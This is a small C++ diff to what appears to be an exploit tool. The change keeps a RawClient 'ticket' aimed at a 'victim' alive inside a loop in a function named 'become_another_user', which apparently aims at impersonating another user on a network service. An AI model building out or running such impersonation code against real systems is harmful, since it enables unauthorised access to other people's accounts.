@@ -8,6 +8,7 @@
 #include <csignal>
 #include <cstdio>
 #include <filesystem>
+#include <optional>
 
 #include "nic/child_process.hpp"
 #include "nic/raw_client.hpp"
@@ -76,11 +77,12 @@ void become_another_user() {
   }
   int lanes = 0;
   for (uint32_t number = 1; number <= 600; ++number) {
+    std::optional<RawClient> ticket;  // good for as long as its connection stands
     if (number != 1) {
-      RawClient ticket(victim);
-      ticket.hello = client.hello;
-      if (!ticket.greet()) break;
-      client.answer = ticket.answer;
+      ticket.emplace(victim);
+      ticket->hello = client.hello;
+      if (!ticket->greet()) break;
+      client.answer = ticket->answer;
     }
     auto open = client.good_open();
     open.source = own;
